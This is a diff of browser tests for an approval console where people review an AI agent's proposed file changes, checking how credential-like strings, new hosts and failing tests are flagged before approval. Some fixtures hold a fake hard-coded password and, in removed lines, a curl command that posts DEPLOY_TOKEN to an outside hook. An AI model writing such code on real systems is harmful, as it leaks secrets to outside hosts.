@@ -2,7 +2,7 @@
 
 import assert from "node:assert/strict";
 import { createHash } from "node:crypto";
-import { becomes, startRun } from "./agent.mjs";
+import { armed, becomes, startRun } from "./agent.mjs";
 import { tar } from "./seed.mjs";
 
 const SOURCE = { policy: { kinds: { TEXT_SOURCE: "REQUIRE_APPROVAL" } } };
@@ -46,26 +46,66 @@ export async function a_change_has_one_scroll_and_its_decision_stays_in_view({ b
   await operator.create(`/v1/approvals/${approvalId}/deny`, { note: "done", onBehalfOf: "Ada" });
 }
 
-export async function a_denial_takes_a_ready_reason_and_three_keys({ base, operator, open }) {
-  const run = "ready-reasons";
+/** The warnings of an approval, as the service gives them. */
+const warningsOf = async (operator, id) => (await operator.request("GET", `/v1/approvals/${id}`)).body.warnings;
+
+export async function a_danger_is_told_above_the_diff_and_takes_another_key({ base, operator, open }) {
+  const run = "dangers";
   const call = await startRun(operator, run, SOURCE);
-  await operator.create(`/v1/runs/${run}/events`, { kind: "prompt", summary: "Fix the typo in README.md." });
-  const hook = await call("write_file", { path: "deploy.py", content: "key = \"$DEPLOY_TOKEN\"\nurl = \"https://deploy-status.dev/hook\"\n", reason: "report the state" });
+  const plain = (await call("write_file", { path: "plain.py", content: "a = 1\n", reason: "plain" })).approvalId;
+  const secret = (await call("write_file", { path: "client.py", content: "import os\nSMTP_PASSWORD = \"vT9q-8sKd2LmXw4z\"\n", reason: "the client" })).approvalId;
   const failing = await failedChange(operator, run, "total.py");
   const { page, close } = await open("approver");
   const region = page.getByRole("region", { name: "Approval" });
-  const text = region.getByLabel(/^Why not\?/);
-  const note = async (id) => (await operator.request("GET", `/v1/approvals/${id}`)).body.note;
-  // What the records say by themselves is there already, and is replaced by typing.
-  await page.goto(`${base}/approvals?id=${failing}`);
-  // It is said once, where the decision is made.
-  await region.locator(".bar").getByText("✕ test_half_a_cent fails with this change (tests/test_total.py, line 19): AssertionError: 1 != 1.01").waitFor();
-  assert.equal(await region.getByRole("list", { name: "Failed tests" }).count(), 0);
-  const fact = "test_half_a_cent fails with this change (tests/test_total.py, line 19): AssertionError: 1 != 1.01.";
+  const keys = () => region.locator(".bar button[aria-keyshortcuts]").evaluateAll((buttons) => buttons.map((button) => `${button.firstChild.data} ${button.getAttribute("aria-keyshortcuts")}`));
+  await page.goto(`${base}/approvals?id=${plain}`);
+  await armed(page);
+  assert.deepEqual(await keys(), ["Approve a", "Edit first… e", "Deny… d"]);
+  for (const [id, path, code, label] of [[secret, "client.py", "CREDENTIAL_LIKE", "looks like a credential"], [failing, "total.py", "TESTS_FAILED", "tests fail"]]) {
+    const warning = (await warningsOf(operator, id)).find((found) => found.code === code);
+    assert.equal(warning?.severity, "danger", code);
+    await page.locator(".queue li", { hasText: path }).locator(".mark", { hasText: label }).waitFor();
+    await page.goto(`${base}/approvals?id=${id}`);
+    const red = region.getByRole("alert");
+    await red.getByText(warning.text).waitFor();
+    assert.ok((await red.boundingBox()).y < (await region.locator(".diff").boundingBox()).y);
+    if (warning.line) {
+      await red.getByRole("button", { name: `${path}:${warning.line}` }).click();
+      await region.locator(".diff-line.focused", { hasText: "SMTP_PASSWORD" }).waitFor();
+    }
+    await armed(page);
+    assert.deepEqual(await keys(), ["Approve anyway Shift+A", "Edit first… e", "Deny… d"]);
+    await page.locator("h1").click();
+    await page.keyboard.press("a");
+    await region.getByText("Press Shift+A to approve it anyway.").waitFor();
+    await page.keyboard.press("Escape");
+    await page.goto(`${base}/approvals?id=${id}`);
+  }
+  await armed(page);
+  await page.keyboard.press("Shift+A");
+  await becomes(page, "total.py", /✓ approved \(record \d+\)/);
+  assert.deepEqual(await Promise.all([plain, secret, failing].map(async (id) => (await operator.request("GET", `/v1/approvals/${id}`)).body.state)), ["pending", "pending", "approved"]);
+  for (const id of [plain, secret]) await operator.create(`/v1/approvals/${id}/deny`, { note: "done", onBehalfOf: "Ada" });
+  await close();
+}
+
+export async function a_denial_takes_a_ready_reason_and_two_keys({ base, operator, open }) {
+  const run = "ready-reasons";
+  const call = await startRun(operator, run, SOURCE);
+  const hook = (await call("write_file", { path: "deploy.py", content: "SMTP_PASSWORD = \"vT9q-8sKd2LmXw4z\"\nurl = \"https://deploy-status.dev/hook\"\n", reason: "report the state" })).approvalId;
+  const warnings = await warningsOf(operator, hook);
+  assert.deepEqual(warnings.map(({ code, severity }) => `${code} ${severity}`), ["CREDENTIAL_LIKE danger", "NEW_HOST doubt"]);
+  const [secret, host] = warnings.map(({ text, line }) => `${text.replace(/\.$/, "")} (deploy.py, line ${line}).`);
+  const { page, close } = await open("approver");
+  const region = page.getByRole("region", { name: "Approval" });
+  const text = region.getByLabel(/^Reason/);
+  await page.goto(`${base}/approvals?id=${hook}`);
+  await armed(page);
+  // What speaks most against it is there already, and is replaced by typing.
   await page.keyboard.press("d");
-  assert.equal(await text.inputValue(), fact);
-  // Whoever denies reads it in the note.
-  assert.equal(await region.getByText(/^✕ test_half_a_cent fails/).count(), 0);
+  assert.equal(await text.inputValue(), secret);
+  const [line, panel] = [await region.locator(".diff-line", { hasText: "SMTP_PASSWORD" }).boundingBox(), await region.locator(".bar").boundingBox()];
+  assert.ok(line.y > 0 && line.y + line.height <= panel.y, JSON.stringify([line, panel]));
   await page.keyboard.type("no");
   assert.equal(await text.inputValue(), "no");
   await page.keyboard.press("Escape");
@@ -74,81 +114,85 @@ export async function a_denial_takes_a_ready_reason_and_three_keys({ base, opera
   await page.keyboard.press("d");
   // A second reason replaces the first.
   await page.keyboard.press("2");
-  assert.equal(await text.inputValue(), "Outside of the task: total.py. The task is: Fix the typo in README.md.");
+  assert.equal(await text.inputValue(), host);
   await page.keyboard.press("1");
-  assert.equal(await text.inputValue(), fact);
+  assert.equal(await text.inputValue(), secret);
   // A reason that was not given is no note on an approval.
   await page.keyboard.press("Escape");
   assert.equal(await page.getByLabel("Note (optional)").inputValue(), "");
   await page.locator("h1").click();
   await page.keyboard.press("d");
-  await page.keyboard.press("Enter");
-  await becomes(page, "total.py", "✕ denied");
-  assert.equal(await note(failing), fact);
-  // The same for a secret that a new host would get; the text can be edited, and the lines that it is about are not covered.
-  await page.goto(`${base}/approvals?id=${hook.approvalId}`);
-  await region.getByText("! New host deploy-status.dev; DEPLOY_TOKEN is used in the same change").waitFor();
-  await page.locator("h1").click();
-  await page.keyboard.press("d");
-  assert.equal(await text.inputValue(), "New host deploy-status.dev; DEPLOY_TOKEN is used in the same change (deploy.py, line 2). A secret must not be sent there.");
-  const [line, panel] = [await region.locator(".diff-line", { hasText: "deploy-status.dev" }).boundingBox(), await region.locator(".bar").boundingBox()];
-  assert.ok(line.y > 0 && line.y + line.height <= panel.y, JSON.stringify([line, panel]));
-  const cut = await region.getByRole("group", { name: "Ready reasons" }).getByRole("button").evaluateAll((buttons) => buttons.filter((button) => button.scrollWidth > button.clientWidth || button.scrollHeight > button.clientHeight + 1).length);
-  assert.equal(cut, 0);
   await page.keyboard.press("End");
   await page.keyboard.type(" Remove it.");
   // What was written by hand stays.
-  await region.getByRole("button", { name: "Outside of the task" }).click();
+  await region.getByRole("button", { name: "New host" }).click();
   await page.keyboard.press("Enter");
   await becomes(page, "deploy.py", "✕ denied");
-  assert.equal(await note(hook.approvalId), "New host deploy-status.dev; DEPLOY_TOKEN is used in the same change (deploy.py, line 2). A secret must not be sent there. Remove it.\nOutside of the task: deploy.py. The task is: Fix the typo in README.md.");
+  assert.equal((await operator.request("GET", `/v1/approvals/${hook}`)).body.note, `${secret} Remove it.\n${host}`);
+  // Asked again, it is red before anything else, with the whole note.
+  const again = (await call("write_file", { path: "deploy.py", content: "SMTP_PASSWORD = \"vT9q-8sKd2LmXw4z\"\nurl = \"https://deploy-status.dev/hook\"\nmore = 1\n", reason: "report the state" })).approvalId;
+  if (again && (await warningsOf(operator, again)).some(({ code }) => code === "DENIED_BEFORE")) {
+    await page.goto(`${base}/approvals?id=${again}`);
+    await region.getByRole("alert").getByText("Remove it.").waitFor();
+    await page.locator(".queue li", { hasText: "deploy.py" }).locator(".mark", { hasText: "denied before" }).waitFor();
+  }
+  if (again) await operator.create(`/v1/approvals/${again}/deny`, { note: "done", onBehalfOf: "Ada" });
   await close();
 }
 
-export async function a_doubtful_change_is_not_approved_by_the_key_of_others({ base, operator, open }) {
-  const run = "doubtful";
+export async function a_change_that_no_longer_applies_is_sent_back({ base, operator, open }) {
+  const call = await startRun(operator, "redo", SOURCE);
+  const ask = (content, reason) => call("write_file", { path: "a.py", content, reason });
+  const [mine, other] = [await ask("a = 1\n", "one"), await ask("a = 2\n", "two")];
+  await operator.create(`/v1/approvals/${other.approvalId}/approve`, { onBehalfOf: "Bob" });
+  const { page, close } = await open("approver");
+  await page.goto(`${base}/approvals?id=${mine.approvalId}`);
+  const region = page.getByRole("region", { name: "Approval" });
+  const redo = region.getByRole("button", { name: "Ask the agent to redo it" });
+  await redo.waitFor();
+  await armed(page);
+  // It cannot be approved, nor edited, and nothing says that it is done already.
+  assert.equal(await region.getByRole("button", { name: /^(Approve|Edit)/ }).count(), 0);
+  assert.equal(await page.getByText(/Already done/i).count(), 0);
+  for (const key of ["a", "Shift+A"]) await page.keyboard.press(key);
+  await region.getByText("Press r to ask the agent to redo it.").waitFor();
+  await page.keyboard.press("r");
+  await becomes(page, "a.py", "✕ denied");
+  const { state, note } = (await operator.request("GET", `/v1/approvals/${mine.approvalId}`)).body;
+  assert.equal(state, "denied");
+  assert.match(note, /^a\.py changed after this request\. Re-read it and try again\.$/);
+  await close();
+}
+
+export async function a_row_of_the_queue_says_why_and_what_to_notice({ base, operator, open }) {
+  const run = "queue-rows";
   const call = await startRun(operator, run, SOURCE);
-  const [failing, plain] = [await failedChange(operator, run, "total.py"), (await call("write_file", { path: "plain.py", content: "a = 1\n", reason: "plain" })).approvalId];
-  const { page, close } = await open("approver");
-  const region = page.getByRole("region", { name: "Approval" });
-  const keys = () => region.locator(".bar button[aria-keyshortcuts]").evaluateAll((buttons) => buttons.map((button) => `${button.firstChild.data} ${button.getAttribute("aria-keyshortcuts")}`));
-  await page.goto(`${base}/approvals?id=${plain}`);
-  await region.getByText("Not tested with this change").or(region.getByText("recorded no test")).waitFor();
-  assert.deepEqual(await keys(), ["Approve a", "Edit first… e", "Deny… d"]);
-  await page.goto(`${base}/approvals?id=${failing}`);
-  await region.getByText("test_half_a_cent fails with this change").waitFor();
-  assert.deepEqual(await keys(), ["Approve anyway Shift+A", "Edit first… e", "Deny… d"]);
-  await page.keyboard.press("a");
-  await region.getByText("Press Shift+A to approve it anyway.").waitFor();
-  assert.equal((await operator.request("GET", `/v1/approvals/${failing}`)).body.state, "pending");
-  await page.keyboard.press("Shift+A");
-  await becomes(page, "total.py", /✓ approved \(record \d+\)/);
-  await operator.create(`/v1/approvals/${plain}/deny`, { note: "done", onBehalfOf: "Ada" });
-  await close();
-}
-
-export async function a_new_host_is_not_approved_by_the_key_of_others({ base, operator, open }) {
-  const call = await startRun(operator, "guarded", SOURCE);
-  const { approvalId } = await call("write_file", { path: "deploy.py", content: "run(\"curl https://deploy-status.dev/hook -d $DEPLOY_TOKEN\")\n", reason: "report the state" });
-  const { page, close } = await open("approver");
-  const region = page.getByRole("region", { name: "Approval" });
-  await page.goto(`${base}/approvals?id=${approvalId}`);
-  const bar = region.locator(".bar");
-  await bar.getByText("! Sends DEPLOY_TOKEN to deploy-status.dev", { exact: true }).waitFor();
-  assert.equal(await bar.getByRole("button", { name: "Deny…" }).evaluate((button) => button.classList.contains("primary")), true);
-  assert.equal(await bar.getByRole("button", { name: "Approve anyway" }).evaluate((button) => button.classList.contains("primary")), false);
-  await page.keyboard.press("a");
-  await region.getByText("Press Shift+A to approve it anyway.").waitFor();
-  assert.equal((await operator.request("GET", `/v1/approvals/${approvalId}`)).body.state, "pending");
-  await page.keyboard.press("?");
-  const help = page.getByRole("dialog", { name: "Keyboard" });
-  await help.waitFor();
-  const keys = await help.getByRole("row").allInnerTexts();
-  assert.ok(keys.some((row) => row.startsWith("Shift+A")) && keys.some((row) => row.startsWith("d, 1 – 6")), `${keys}`);
-  await page.keyboard.press("Escape");
-  await page.keyboard.press("Shift+A");
-  await becomes(page, "deploy.py", /✓ approved \(record \d+\)/);
-  await close();
+  const path = "services/authentication/internal/session_policy_of_the_administrators_console.py";
+  const ids = [
+    (await call("write_file", { path, content: "limit = 30\n", reason: "End sessions after 30 minutes." })).approvalId,
+    (await call("write_file", { path: "fetch.py", content: "url = \"https://registry.example-cdn.org/a\"\n", reason: "use the mirror" })).approvalId,
+    (await call("apply_patch", { patch: "--- /dev/null\n+++ b/one.py\n@@ -0,0 +1 @@\n+x = 1\n--- /dev/null\n+++ b/two.py\n@@ -0,0 +1 @@\n+y = 1\n", reason: "two of them" })).approvalId,
+  ];
+  for (const [width, height] of [[1440, 900], [390, 844]]) {
+    const { page, close } = await open("approver", { viewport: { width, height } });
+    const asked = [];
+    page.on("request", (request) => /\/v1\/approvals\/|\/tool-calls\/|\/artifacts\//.test(request.url()) && asked.push(request.url()));
+    await page.goto(`${base}/approvals?state=pending&id=none`);
+    const row = (text) => page.locator(".queue li", { hasText: run }).filter({ hasText: text });
+    if (width > 800) await row("End sessions after 30 minutes.").waitFor();
+    // The list has the warnings: nothing more is read for a row.
+    assert.deepEqual(asked.filter((url) => !url.endsWith("/none")), []);
+    await page.goto(`${base}/approvals`);
+    await row("End sessions after 30 minutes.").waitFor();
+    // The folder is cut, and the name as little as can be.
+    const cut = await row("End sessions").locator(".path > bdi").evaluateAll((parts) => parts.map((part) => part.scrollWidth - part.clientWidth));
+    assert.ok(cut[0] > cut[1], `${width}: ${cut}`);
+    await row("use the mirror").locator(".tag", { hasText: "new host" }).waitFor();
+    await row("two of them").getByText("2 files: one.py, two.py").waitFor();
+    assert.equal(await row("End sessions").locator(".mark").count(), 0);
+    await close();
+  }
+  for (const id of ids) await operator.create(`/v1/approvals/${id}/deny`, { note: "done", onBehalfOf: "Ada" });
 }
 
 /** Where a line that a reason to deny is about is seen already, nothing moves when the reason is offered. */
@@ -159,7 +203,7 @@ export async function a_denial_does_not_scroll_to_a_line_that_is_seen({ base, op
   const { page, close } = await open("approver");
   const region = page.getByRole("region", { name: "Approval" });
   await page.goto(`${base}/approvals?id=${approvalId}`);
-  await region.getByText("Not tested with this change").or(region.getByText("recorded no test")).waitFor();
+  await armed(page);
   const line = region.locator(".diff-line.add", { hasText: "deploy-status.dev" });
   const [before, colour] = [await line.boundingBox(), await line.evaluate((row) => getComputedStyle(row).backgroundColor)];
   assert.ok(before.y > 450, "in the lower half");
@@ -168,8 +212,9 @@ export async function a_denial_does_not_scroll_to_a_line_that_is_seen({ base, op
   assert.deepEqual(await line.boundingBox(), before);
   assert.equal(await line.evaluate((row) => getComputedStyle(row).backgroundColor), colour);
   // A denial that was made is told in a few words of which none is cut.
+  await page.keyboard.press("1");
   await page.keyboard.press("Enter");
-  const told = page.locator(".last-decision");
+  const told = page.locator(".last-decision.sent");
   await told.getByText("denied").waitFor();
   assert.match(await told.innerText(), /^✕ denied\s+deploy\.py$/);
   assert.deepEqual(await told.locator("*").evaluateAll((parts) => parts.filter((part) => part.scrollWidth > part.clientWidth + 1 && getComputedStyle(part).display !== "inline").map((part) => part.textContent)), []);
@@ -189,16 +234,16 @@ export async function what_else_a_run_changed_is_told_in_place({ base, operator,
   const { page, close } = await open("approver");
   const region = page.getByRole("region", { name: "Approval" });
   await page.goto(`${base}/approvals?id=${alone.approvalId}`);
-  await region.getByText("nothing else changed").waitFor();
+  await region.getByText("no other changes in this run").waitFor();
   await call("write_file", { path: "notes.md", content: "one\ntwo\n", reason: "notes" });
   await page.reload();
-  await region.getByRole("button", { name: "also changed: notes.md +2 −0" }).waitFor();
+  await region.getByRole("button", { name: "Other changes in this run (1) +2 −0" }).waitFor();
   await call("write_file", { path: "docs/guide.md", content: "guide\n", reason: "guide" });
   const { headSeq } = (await operator.request("GET", `/v1/runs/${run}`)).body;
   await page.reload();
   // What is listed when somebody asks is not told twice before.
-  assert.equal(await region.getByText("What else this run changed").count(), 0);
-  await region.getByRole("button", { name: "2 other files changed +3 −0" }).click();
+  assert.equal(await region.locator("summary", { hasText: "Other changes in this run" }).count(), 0);
+  await region.getByRole("button", { name: "Other changes in this run (2) +3 −0" }).click();
   const list = region.getByRole("list", { name: "Changed files" });
   await list.getByRole("button", { name: /docs\/guide\.md.*\+1/ }).waitFor();
   // Counting leaves no record; a diff that is opened is a read.
@@ -209,57 +254,9 @@ export async function what_else_a_run_changed_is_told_in_place({ base, operator,
   // Who denies is told that these stay.
   await page.locator("h1").click();
   await page.keyboard.press("d");
-  await region.getByText("Why not? The agent reads this. 2 other changed files stay as they are.", { exact: true }).waitFor();
+  await region.getByText("Reason (sent to the agent). The run's 2 other changed files are kept.", { exact: true }).waitFor();
   await operator.create(`/v1/approvals/${alone.approvalId}/deny`, { note: "done", onBehalfOf: "Ada" });
   await close();
-}
-
-export async function a_row_of_the_queue_says_why_and_what_to_notice({ base, operator, open }) {
-  const run = "queue-rows";
-  const call = await startRun(operator, run, SOURCE);
-  const path = "services/authentication/internal/session_policy_of_the_administrators_console.py";
-  const ids = [
-    (await call("write_file", { path, content: "limit = 30\n", reason: "End sessions after 30 minutes." })).approvalId,
-    (await call("write_file", { path: "fetch.py", content: "url = \"https://registry.example-cdn.org/a\"\n", reason: "use the mirror" })).approvalId,
-    await failedChange(operator, run, "total.py"),
-  ];
-  const stale = await call("write_file", { path: "stale.py", content: "a = 1\n", reason: "one" });
-  const other = await call("write_file", { path: "stale.py", content: "a = 2\n", reason: "two" });
-  await operator.create(`/v1/approvals/${other.approvalId}/approve`, { onBehalfOf: "Bob" });
-  for (const [width, height] of [[1440, 900], [390, 844]]) {
-    const { page, close } = await open("approver", { viewport: { width, height } });
-    await page.goto(`${base}/approvals`);
-    const row = (text) => page.locator(".queue li", { hasText: run }).filter({ hasText: text });
-    await row("End sessions after 30 minutes.").waitFor();
-    // The folder is cut, and the name as little as can be.
-    const cut = await row("End sessions").locator(".path > bdi").evaluateAll((parts) => parts.map((part) => part.scrollWidth - part.clientWidth));
-    assert.ok(cut[0] > cut[1], `${width}: ${cut}`);
-    await row("use the mirror").getByText("new host registry.example-cdn.org").waitFor();
-    await row("sum whole cents").getByText("1 test fails").waitFor();
-    await row("stale.py").getByText("file changed since").waitFor();
-    assert.equal(await row("End sessions").locator(".mark").count(), 0);
-    await row("End sessions").getByText("not tested").waitFor();
-    assert.equal(await row("sum whole cents").getByText("not tested").count(), 0);
-    // The rows have their marks with the first paint: none moves later.
-    await page.addInitScript(() => {
-      window.moves = [];
-      const seen = new Map();
-      const look = () => {
-        for (const element of document.querySelectorAll(".queue li")) {
-          const [key, height] = [element.innerText.slice(0, 60), element.offsetHeight];
-          if (seen.has(key) && seen.get(key) !== height) window.moves.push(`${key}: ${seen.get(key)} to ${height}`);
-          seen.set(key, height);
-        }
-        requestAnimationFrame(look);
-      };
-      requestAnimationFrame(look);
-    });
-    await page.reload();
-    await row("sum whole cents").getByText("1 test fails").waitFor();
-    assert.deepEqual(await page.evaluate(() => window.moves), []);
-    await close();
-  }
-  for (const id of [...ids, stale.approvalId]) await operator.create(`/v1/approvals/${id}/deny`, { note: "done", onBehalfOf: "Ada" });
 }
 
 export async function an_edit_is_shown_against_both_versions_before_it_is_approved({ base, operator, open }) {
@@ -272,6 +269,7 @@ export async function an_edit_is_shown_against_both_versions_before_it_is_approv
   await page.goto(`${base}/approvals?id=${approvalId}`);
   const region = page.getByRole("region", { name: "Approval" });
   await region.getByText("line 20, which is").waitFor();
+  await armed(page);
   await page.keyboard.press("e");
   const field = region.getByLabel(/notes\.md, lines 17 to 23/);
   await region.getByText("Your edit is applied together with the agent's.").waitFor();
@@ -309,7 +307,7 @@ export async function an_edit_on_a_narrow_screen_leaves_the_page_where_it_is({ b
   const region = page.getByRole("region", { name: "Approval" });
   const brand = async () => (await page.locator(".brand").boundingBox()).y;
   const top = await brand();
-  await region.getByRole("button", { name: /also changed: notes\.md/ }).click();
+  await region.getByRole("button", { name: /^Other changes in this run/ }).click();
   await region.getByRole("list", { name: "Changed files" }).waitFor();
   await page.waitForTimeout(200);
   assert.equal(await brand(), top);
@@ -335,7 +333,7 @@ export async function a_decision_is_never_higher_than_the_screen({ base, operato
     const beyond = () => page.evaluate(() => [document.scrollingElement, document.querySelector("main")].map((part) => part.scrollHeight - part.clientHeight));
     for (const id of [waiting, decided]) {
       await page.goto(`${base}/approvals?id=${id}&view=all`);
-      await region.getByRole("button", { name: /^[23] (other )?files changed/ }).click();
+      await region.getByRole("button", { name: /^(Other c|C)hanges in this run/ }).click();
       await region.getByRole("list", { name: "Changed files" }).getByRole("button", { name: /guide\.md/ }).click();
       await region.locator(".besides .diff-line.add", { hasText: "one" }).first().waitFor();
       await region.locator("summary", { hasText: "Details" }).click();
@@ -365,44 +363,6 @@ export async function the_address_names_a_state_as_the_api_does({ base, operator
   // An address that names no state of the API shows all.
   await page.goto(`${base}/approvals?state=all`);
   await page.locator(".queue li", { hasText: "of every state" }).waitFor();
-  await close();
-}
-
-export async function a_new_host_is_told_beside_those_that_the_file_has({ base, operator, open }) {
-  const call = await startRun(operator, "hosts", { policy: { kinds: { LOCKFILE: "REQUIRE_APPROVAL" } } });
-  const entry = (name, host) => `${name} = "https://${host}/${name}"\n`;
-  const text = entry("one", "registry.example.org") + "# line\n".repeat(20);
-  const first = await call("write_file", { path: "Cargo.lock", content: text, reason: "lock" });
-  await operator.create(`/v1/approvals/${first.approvalId}/approve`, { onBehalfOf: "Ada" });
-  await call("read_file", { path: "Cargo.lock" });
-  const { approvalId } = await call("write_file", { path: "Cargo.lock", content: text + entry("two", "registry.example-cdn.org"), mode: "CREATE_OR_REPLACE", expectedSha256: "seen", reason: "lock two" });
-  const { page, close } = await open("approver");
-  await page.goto(`${base}/approvals?id=${approvalId}`);
-  const region = page.getByRole("region", { name: "Approval" });
-  await region.getByText("! New host registry.example-cdn.org; the other packages come from registry.example.org").waitFor();
-  assert.equal(await region.getByText("registry.example-cdn.org;").count(), 1);
-  // The file was read for that: how many lines are hidden is known, and that none follows.
-  assert.deepEqual(await region.locator(".diff-gap button").evaluateAll((gaps) => gaps.map((gap) => gap.textContent)), ["⋯ show 18 unchanged lines"]);
-  await operator.create(`/v1/approvals/${approvalId}/deny`, { note: "done", onBehalfOf: "Ada" });
-  await close();
-}
-
-export async function what_looks_like_a_secret_is_not_approved_by_the_key_of_others({ base, operator, open }) {
-  const call = await startRun(operator, "secret-text", SOURCE);
-  const { approvalId } = await call("write_file", { path: "client.py", content: "import os\nAPI_KEY = \"7f3kq92mx04bz61c\"\n", reason: "the client" });
-  const { page, close } = await open("approver");
-  const region = page.getByRole("region", { name: "Approval" });
-  await page.goto(`${base}/approvals?id=${approvalId}`);
-  const bar = region.locator(".bar");
-  await bar.getByText("! Looks like a secret: API_KEY (client.py, line 2)").waitFor();
-  await page.locator(".queue li", { hasText: "client.py" }).getByText("! looks like a secret").waitFor();
-  assert.equal(await bar.getByRole("button", { name: "Deny…" }).evaluate((button) => button.classList.contains("primary")), true);
-  await page.keyboard.press("a");
-  await region.getByText("Press Shift+A to approve it anyway.").waitFor();
-  await page.keyboard.press("d");
-  assert.equal(await region.getByLabel(/^Why not\?/).inputValue(), "Looks like a secret: API_KEY (client.py, line 2). Secrets must not be in files.");
-  await page.keyboard.press("Enter");
-  await becomes(page, "client.py", "✕ denied");
   await close();
 }
 
@@ -440,51 +400,6 @@ export async function a_long_change_says_how_much_of_it_is_below({ base, operato
   await close();
 }
 
-export async function the_time_that_a_line_computes_is_said({ base, operator, open }) {
-  const call = await startRun(operator, "spans", SOURCE);
-  const { approvalId } = await call("write_file", { path: "policy.py", content: "IDLE_SECONDS = 30 * 60 * 60\nSIZE = 30 * 60\n", reason: "the limit" });
-  const { page, close } = await open("approver");
-  await page.goto(`${base}/approvals?id=${approvalId}`);
-  const region = page.getByRole("region", { name: "Approval" });
-  await region.locator(".diff-line.add", { hasText: "IDLE_SECONDS" }).getByText("= 30 h", { exact: true }).waitFor();
-  assert.equal(await region.locator(".hint").count(), 1);
-  await operator.create(`/v1/approvals/${approvalId}/deny`, { note: "done", onBehalfOf: "Ada" });
-  await close();
-}
-
-export async function a_time_of_another_unit_than_the_task_says_is_not_approved_by_the_key_of_others({ base, operator, open }) {
-  const run = "doubts";
-  const call = await startRun(operator, run, SOURCE);
-  await operator.create(`/v1/runs/${run}/events`, { kind: "prompt", summary: "Sessions must end after 30 minutes without a request." });
-  const { approvalId } = await call("write_file", { path: "policy.py", content: "IDLE_SECONDS = 30 * 60 * 60\nLONGEST_SECONDS = 8 * 60 * 60\n", reason: "the limit" });
-  const { page, close } = await open("approver");
-  await page.goto(`${base}/approvals?id=${approvalId}`);
-  const region = page.getByRole("region", { name: "Approval" });
-  const bar = region.locator(".bar");
-  await bar.getByText("! 30 h, not 30 minutes as the task says").waitFor();
-  await page.locator(".queue li", { hasText: "policy.py" }).getByText("! 30 h, not 30 minutes as the task says").waitFor();
-  // The hint in the line is another than that of a line that nothing speaks against.
-  assert.deepEqual(await region.locator(".hint").evaluateAll((hints) => hints.map((hint) => [hint.innerText.trim(), hint.classList.contains("doubtful")])), [["= 30 h", true], ["= 8 h", false]]);
-  assert.equal(await bar.getByRole("button", { name: "Deny…" }).evaluate((button) => button.classList.contains("primary")), true);
-  await page.locator("h1").click();
-  await page.keyboard.press("a");
-  await region.getByText("Press Shift+A to approve it anyway.").waitFor();
-  assert.equal((await operator.request("GET", `/v1/approvals/${approvalId}`)).body.state, "pending");
-  await page.keyboard.press("d");
-  assert.equal(await region.getByLabel(/^Why not\?/).inputValue(), "30 h, not 30 minutes as the task says (policy.py, line 1).");
-  await page.keyboard.press("Escape");
-  // What the reviewer has mended is not said any more.
-  await page.locator("h1").click();
-  await page.keyboard.press("e");
-  const field = region.getByLabel(/policy\.py, lines 1 to 2/);
-  await bar.getByText("! 30 h, not 30 minutes as the task says").waitFor();
-  await field.fill((await field.inputValue()).replace("30 * 60 * 60", "30 * 60"));
-  await bar.getByText("! 30 h, not 30 minutes as the task says").waitFor({ state: "detached" });
-  await page.keyboard.press("Control+Enter");
-  await becomes(page, "policy.py", /with changes \(record \d+\)/);
-  await close();
-}
-
 /** Hidden lines appear above a change, which stays where it is seen; lines after it appear below. */
 export async function lines_that_are_shown_leave_the_change_in_view({ base, operator, open }) {
   const call = await startRun(operator, "hidden-lines", SOURCE);
@@ -516,37 +431,6 @@ export async function lines_that_are_shown_leave_the_change_in_view({ base, oper
   await operator.create(`/v1/approvals/${approvalId}/deny`, { note: "done", onBehalfOf: "Ada" });
 }
 
-export async function what_repeats_another_record_says_so_first({ base, operator, open }) {
-  const run = "repeats";
-  const call = await startRun(operator, run, SOURCE);
-  const first = await call("write_file", { path: "ci.py", content: "use = 1\nrun = 1\n", reason: "start" });
-  await operator.create(`/v1/approvals/${first.approvalId}/approve`, { onBehalfOf: "Ada" });
-  await call("read_file", { path: "ci.py" });
-  const ask = (newString, reason) => call("edit_file", { path: "ci.py", oldString: "use = 1\n", newString, expectedSha256: "seen", reason });
-  const mine = await ask("use = 2\nwith_it = 1\nparts = 1\ncheck = 1\n", "mine");
-  const other = await ask("use = 2\nwith_it = 1\nparts = 1\ncheck = 2\n", "theirs");
-  await operator.create(`/v1/approvals/${other.approvalId}/approve`, { onBehalfOf: "Bob" });
-  const { page, close } = await open("approver");
-  await page.goto(`${base}/approvals?id=${mine.approvalId}`);
-  const region = page.getByRole("region", { name: "Approval" });
-  const said = region.getByRole("alert");
-  await said.getByText("what is left: `check = 1`").waitFor();
-  const red = (await said.innerText()).trim();
-  assert.match(red, /^✕ Already done by record \d+, approved by Bob; what is left: `check = 1`\.$/);
-  await said.getByRole("link", { name: /^record \d+$/ }).waitFor();
-  // The file of the change itself is nothing else that the run changed.
-  await region.getByText("nothing else changed").waitFor();
-  assert.equal(await region.getByText("also changed").count(), 0);
-  await page.keyboard.press("d");
-  // The note is what was read in red, and does not ask for more: the file has every word of it.
-  assert.equal(await region.getByLabel(/^Why not\?/).inputValue(), red.slice(2));
-  await page.keyboard.press("2");
-  assert.match(await region.getByLabel(/^Why not\?/).inputValue(), /^ci\.py has changed since this was asked \(record \d+, edit_file\)/);
-  await page.keyboard.press("Enter");
-  await becomes(page, "ci.py", "✕ denied");
-  await close();
-}
-
 export async function the_record_of_a_command_has_its_text_once({ base, operator, open }) {
   const run = "command-once";
   await startRun(operator, run);
@@ -568,12 +452,12 @@ export async function the_heading_of_a_call_says_what_became_of_it({ base, opera
   await page.goto(`${base}/runs/heading/calls/${items[0].seq}`);
   const panel = page.getByRole("region", { name: `Call ${items[0].seq}` });
   const heading = panel.locator("header");
-  await heading.getByText("waiting for approval").waitFor();
+  await heading.getByText("waiting").waitFor();
   // What waits is shown here too, until it has a record of its own.
   await panel.locator(".diff-line.add", { hasText: "a = 1" }).waitFor();
   await operator.create(`/v1/approvals/${approvalId}/approve`, { onBehalfOf: "Ada" });
   await heading.getByText(/approved \(record \d+\)/).waitFor();
-  assert.equal(await heading.getByText("waiting for approval").count(), 0);
+  assert.equal(await heading.getByText("waiting").count(), 0);
   assert.equal(await panel.locator(".diff-line").count(), 0);
   await close();
 }
